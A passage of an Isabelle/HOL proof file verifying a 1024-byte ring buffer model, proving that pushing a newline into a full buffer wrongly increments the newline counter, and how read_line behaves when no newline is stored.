proof -
  have "unat (add 1024 a b) = (unat a + unat b) mod 1024"
  proof -
    have "unat (add 1024 a b) = unat (take_bit 10 (a + b))"
      by (simp add: add_def len_mask_def mask_1023 take_bit_eq_mask)
    also have "\<dots> = unat (a + b) mod 2 ^ 10"
      by (simp add: take_bit_eq_mod unat_mod)
    also have "\<dots> = ((unat a + unat b) mod 2 ^ 32) mod 2 ^ 10"
      by (simp add: unat_word_ariths)
    also have "\<dots> = (unat a + unat b) mod 2 ^ 10"
      by (rule mod_mod_cancel) simp
    finally show ?thesis by simp
  qed
  then have "(of_nat (unat (add 1024 a b)) :: size_t) = of_nat ((unat a + unat b) mod 1024)"
    by (simp only:)
  then show ?thesis
    by simp
qed

lemma unat_of_nat_small: "n < 1024 \<Longrightarrow> unat (of_nat n :: size_t) = n"
  by (simp add: unat_of_nat)

lemma add_1024_small:
  "n < 1024 \<Longrightarrow> m < 1024 \<Longrightarrow> add 1024 (of_nat n) (of_nat m) = of_nat ((n + m) mod 1024)"
  by (simp add: add_1024 unat_of_nat_small)

text \<open>The buffer after \<open>n\<close> pushes of the letter A into the empty buffer.\<close>

lemma push_fill:
  "n \<le> 1023 \<Longrightarrow>
   foldl (push 1024) (Buffer_init 1024) (replicate n 0x41) =
     \<lparr>wpos = of_nat n, rpos = 0, num_newlines = 0,
      buffer = replicate n 0x41 @ replicate (1024 - n) 0\<rparr>"
proof (induction n)
  case 0
  then show ?case by (simp add: Buffer_init_def)
next
  case (Suc n)
  then have n: "n < 1023" by simp
  have next_pos: "add 1024 (of_nat n) 1 = (of_nat (Suc n) :: size_t)"
    using add_1024_small [of n 1] n by simp
  have nz: "(of_nat (Suc n) :: size_t) \<noteq> 0"
  proof
    assume "(of_nat (Suc n) :: size_t) = 0"
    then have "unat (of_nat (Suc n) :: size_t) = 0" by simp
    with n show False by (simp add: unat_of_nat_small del: of_nat_Suc)
  qed
  have idx: "unat (of_nat n :: size_t) = n"
    using n by (simp add: unat_of_nat_small)
  have upd: "(replicate n (0x41 :: u8) @ replicate (1024 - n) 0)[n := 0x41] =
      replicate (Suc n) 0x41 @ replicate (1024 - Suc n) 0"
  proof -
    from n obtain k where k: "1024 - n = Suc k" "1024 - Suc n = k"
      by (cases "1024 - n") auto
    show ?thesis
      unfolding k by (simp add: list_update_append replicate_append_same)
  qed
  have "foldl (push 1024) (Buffer_init 1024) (replicate (Suc n) 0x41) =
      push 1024 (foldl (push 1024) (Buffer_init 1024) (replicate n 0x41)) 0x41"
  proof -
    have "replicate (Suc n) (0x41 :: u8) = replicate n 0x41 @ [0x41]"
      by (simp add: replicate_append_same)
    then show ?thesis by (simp only: foldl_append foldl.simps)
  qed
  also have "\<dots> = push 1024 \<lparr>wpos = of_nat n, rpos = 0, num_newlines = 0,
      buffer = replicate n 0x41 @ replicate (1024 - n) 0\<rparr> 0x41"
    using Suc by simp
  also have "\<dots> = \<lparr>wpos = of_nat (Suc n), rpos = 0, num_newlines = 0,
      buffer = replicate (Suc n) 0x41 @ replicate (1024 - Suc n) 0\<rparr>"
    using nz by (simp add: push_def Let_def next_pos idx upd newline_def del: of_nat_Suc replicate_Suc)
  finally show ?case .
qed

lemma stored_full:
  "stored 1024 \<lparr>wpos = 1023, rpos = 0, num_newlines = k,
      buffer = replicate 1023 0x41 @ [0]\<rparr> = replicate 1023 0x41"
proof -
  have "buffer \<lparr>wpos = 1023, rpos = 0, num_newlines = k,
      buffer = replicate 1023 0x41 @ [0]\<rparr> ! unat (add 1024 0 (of_nat i)) = 0x41"
    if "i < 1023" for i
    using that add_1024_small [of 0 i] by (simp add: unat_of_nat_small nth_append)
  then show ?thesis
    by (simp add: stored_def read_available_def list_eq_iff_nth_eq)
qed

section \<open>The invariant of the ring buffer\<close>

text \<open>
  Claim C1 does not hold of the code: \<open>push\<close> counts a newline that it has dropped. At
  capacity 1024, after 1023 pushes of the letter A into the empty buffer the buffer is full
  and the invariant holds; a push of \<open>'\n'\<close> then leaves the stored bytes as they were, with
  no newline among them, and sets the counter to 1.
\<close>

theorem push_newline_on_full_buffer:
  "buffer_inv 1024 (foldl (push 1024) (Buffer_init 1024) (replicate 1023 0x41)) \<and>
   unat (read_available 1024 (foldl (push 1024) (Buffer_init 1024) (replicate 1023 0x41))) = 1023 \<and>
   stored 1024 (push 1024 (foldl (push 1024) (Buffer_init 1024) (replicate 1023 0x41)) newline) =
     stored 1024 (foldl (push 1024) (Buffer_init 1024) (replicate 1023 0x41)) \<and>
   count_list (stored 1024
     (push 1024 (foldl (push 1024) (Buffer_init 1024) (replicate 1023 0x41)) newline)) newline = 0 \<and>
   num_newlines (push 1024 (foldl (push 1024) (Buffer_init 1024) (replicate 1023 0x41)) newline) = 1 \<and>
   \<not> buffer_inv 1024
     (push 1024 (foldl (push 1024) (Buffer_init 1024) (replicate 1023 0x41)) newline)"
proof -
  let ?full = "\<lparr>wpos = 1023, rpos = 0, num_newlines = 0,
      buffer = replicate 1023 (0x41 :: u8) @ [0]\<rparr>"
  let ?after = "\<lparr>wpos = 1023, rpos = 0, num_newlines = 1,
      buffer = replicate 1023 (0x41 :: u8) @ [0]\<rparr>"
  have f: "foldl (push 1024) (Buffer_init 1024) (replicate 1023 0x41) = ?full"
    using push_fill [of 1023] by simp
  have "add 1024 1023 1 = 0"
    using add_1024_small [of 1023 1] by simp
  then have p: "push 1024 ?full newline = ?after"
    by (simp add: push_def Let_def)
  have c: "count_list (replicate 1023 (0x41 :: u8)) newline = 0"
    by (simp add: count_list_0_iff newline_def)
  have ra: "read_available 1024 ?full = 1023" "read_available 1024 ?after = 1023"
    by (simp_all add: read_available_def)
  show ?thesis
    unfolding f p by (simp add: buffer_inv_def stored_full c ra)
qed

section \<open>Reading a line when no newline is stored\<close>

lemma read_line_scan_no_newline:
  "(\<And>j. unat i \<le> j \<Longrightarrow> j < unat avail \<Longrightarrow>
      buffer s ! unat (add N (rpos s) (of_nat j)) \<noteq> newline) \<Longrightarrow>
   \<exists>line'. read_line_scan N s line i avail = (False, s, line')"
proof (induction N s line i avail rule: read_line_scan.induct)
  case (1 N s line i avail)
  show ?case
  proof (cases "i < avail")
    case False
    then show ?thesis by (subst read_line_scan.simps) simp
  next
    case True
    then have u: "unat (i + 1) = unat i + 1" "unat i < unat avail"
      by unat_arith+
    have "buffer s ! unat (add N (rpos s) (of_nat (unat i))) \<noteq> newline"
      using 1(2) [of "unat i"] u(2) by simp
    then have c: "buffer s ! unat (add N (rpos s) i) \<noteq> newline" by simp
    have "\<exists>line'. read_line_scan N s (line @ [char_of_u8 (buffer s ! unat (add N (rpos s) i))])
        (i + 1) avail = (False, s, line')"
    proof (rule 1(1) [OF True refl refl c])
      fix j
      assume "unat (i + 1) \<le> j" "j < unat avail"
      then show "buffer s ! unat (add N (rpos s) (of_nat j)) \<noteq> newline"
        using 1(2) [of j] u(1) by simp
    qed
    with True c show ?thesis
      by (subst read_line_scan.simps) (simp add: Let_def)
  qed
qed

lemma stored_no_newline:
  assumes "newline \<notin> set (stored N s)" "j < unat (read_available N s)"
  shows "buffer s ! unat (add N (rpos s) (of_nat j)) \<noteq> newline"
proof -
  from assms(2) have "stored N s ! j = buffer s ! unat (add N (rpos s) (of_nat j))"
    by (simp add: stored_def)
  moreover from assms(2) have "j < length (stored N s)" by (simp add: stored_def)
  ultimately show ?thesis using assms(1) by (metis nth_mem)
qed

text \<open>
  Claim C10. When no stored byte is a newline, \<open>read_line\<close> returns false and leaves the
  whole buffer state (read index, write index, counter and bytes) as it was. When the
  counter is not zero and the buffer is not empty, so that the scan runs and copies the
  bytes to the output string, the string is empty on return; on the fast path it is left
  as it was passed.
\<close>

theorem read_line_without_newline:
  "newline \<notin> set (stored N s) \<longrightarrow>
     read_line N s line =
       Some (False, s, if num_newlines s = 0 \<or> empty s then line else [])"
proof
  assume a: "newline \<notin> set (stored N s)"
  obtain line' where "read_line_scan N s line 0 (read_available N s) = (False, s, line')"
    using read_line_scan_no_newline [of 0 "read_available N s" s N line]
      stored_no_newline [OF a] by auto
  then show "read_line N s line =
       Some (False, s, if num_newlines s = 0 \<or> empty s then line else [])"
    by (simp add: read_line_def)
qed

theorem read_line_without_newline_witness:
  "newline \<notin> set (stored 1024
      (push 1024 (foldl (push 1024) (Buffer_init 1024) (replicate 1023 0x41)) newline)) \<and>
   num_newlines (push 1024 (foldl (push 1024) (Buffer_init 1024) (replicate 1023 0x41)) newline) = 1 \<and>
   read_line 1024
      (push 1024 (foldl (push 1024) (Buffer_init 1024) (replicate 1023 0x41)) newline) ''abc'' =
     Some (False,
       push 1024 (foldl (push 1024) (Buffer_init 1024) (replicate 1023 0x41)) newline, [])"
proof -
  let ?full = "\<lparr>wpos = 1023, rpos = 0, num_newlines = 0,
      buffer = replicate 1023 (0x41 :: u8) @ [0]\<rparr>"
  let ?after = "\<lparr>wpos = 1023, rpos = 0, num_newlines = 1,
      buffer = replicate 1023 (0x41 :: u8) @ [0]\<rparr>"
  have f: "foldl (push 1024) (Buffer_init 1024) (replicate 1023 0x41) = ?full"
    using push_fill [of 1023] by simp
  have "add 1024 1023 1 = 0"
    using add_1024_small [of 1023 1] by simp
  then have p: "push 1024 ?full newline = ?after"
    by (simp add: push_def Let_def)
  have n: "newline \<notin> set (stored 1024 ?after)"
    by (simp add: stored_full newline_def)
  from read_line_without_newline [of 1024 ?after "''abc''", THEN mp, OF n] n
  show ?thesis
    unfolding f p by (simp add: empty_def)
qed

end
